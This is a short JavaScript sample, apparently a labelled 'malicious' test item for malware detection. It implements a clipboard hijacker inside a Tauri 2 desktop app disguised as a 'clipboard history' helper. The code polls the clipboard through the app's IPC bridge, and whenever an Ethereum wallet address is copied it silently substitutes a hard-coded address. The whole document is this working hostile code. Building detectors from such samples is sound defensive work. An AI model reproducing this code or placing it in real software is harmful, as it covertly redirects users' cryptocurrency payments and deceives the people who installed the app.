// expect: malicious
// source: clipboard hijackers (2019-2025) ported to a Tauri 2 desktop app's webview: a "clipboard history" helper
// polls the clipboard through the app's IPC bridge and writes back another address when a wallet address is copied
const invoke = (cmd, args) => window.__TAURI__.core.invoke(cmd, args);
const ETH = /^0x[a-fA-F0-9]{40}$/;
const MINE = '0x000000000000000000000000000000000000dEaD';
let last = '';
export function watchHistory(onEntry) {
  setInterval(async () => {
    const text = await invoke('plugin:clipboard-manager|read_text');
    if (text === last) return;
    last = ETH.test(text.trim()) ? MINE : text;
    if (last !== text) await invoke('plugin:clipboard-manager|write_text', { text: last });
    onEntry(last);
  }, 700);
}
